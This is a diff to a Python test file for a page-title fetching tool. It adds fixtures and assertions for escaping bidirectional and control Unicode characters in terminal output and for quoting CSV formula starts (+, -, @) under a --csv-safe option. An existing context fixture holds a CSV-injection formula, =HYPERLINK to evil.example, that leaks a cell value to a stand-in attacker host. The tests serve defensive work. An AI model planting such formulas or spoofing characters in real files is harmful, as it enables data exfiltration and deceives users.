@@ -27,6 +27,11 @@ PAGES = {  # path: (Content-Type header or None, body)
               "<title>a\u202eb\u2066c\u2028d\\x1b e\\\\f</title>".encode()),
     "/formula": (b"text/html; charset=utf-8",
                  b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
+    "/bidi-rest": (b"text/html; charset=utf-8",
+                   "<title>p\u2029q\u2067r\u2068s\u2069t</title>".encode()),
+    "/plus": (b"text/html", b"<title>+1+2</title>"),
+    "/minus": (b"text/html", b"<title>-2+3</title>"),
+    "/at": (b"text/html", b"<title>@SUM(A1)</title>"),
     "/late-title": (b"text/html", b"<html><head>" + b" " * 300 + b"<title>Late</title>"),
     "/long-title": (b"text/html", b"<title>" + b"x" * 300 + b"</title>"),
 }
@@ -93,6 +98,10 @@ def test_text_output_escapes_what_could_fool_the_terminal():
     assert line == ("'a\\u202eb\\u2066c\\u2028d\\\\x1b e\\\\\\\\f' from " + srv.url("/bidi")), line
     r = cafe("titles", "-q", "--json", listing(["/bidi"]))  # JSON keeps the title as it is
     assert json.loads(r.stdout)["title"] == "a\u202eb\u2066c\u2028d\\x1b e\\\\f", r.stdout
+    # the rest of the issue's list: U+2029 and the isolates U+2067-2069
+    r = cafe("titles", "-q", listing(["/bidi-rest"]))
+    assert r.stdout.decode() == ("'p\\u2029q\\u2067r\\u2068s\\u2069t' from "
+                                 + srv.url("/bidi-rest") + "\n"), r.stdout
 
 
 def test_csv_safe_quotes_formulas_only_when_asked():
@@ -103,6 +112,10 @@ def test_csv_safe_quotes_formulas_only_when_asked():
         rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
         titles = {x["url"][len(srv.url("")):]: x["title"] for x in rows}
         assert titles == {"/formula": want, "/html": "Inside"}, (opt, titles)
+    # OWASP's other formula starts: + - @
+    r = cafe("titles", "-q", "--csv-safe", listing(["/plus", "/minus", "/at"]))
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
+    assert [x["title"] for x in rows] == ["'+1+2", "'-2+3", "'@SUM(A1)"], rows
 
 
 def test_csv_safe_resume_takes_the_mark_off_the_urls():
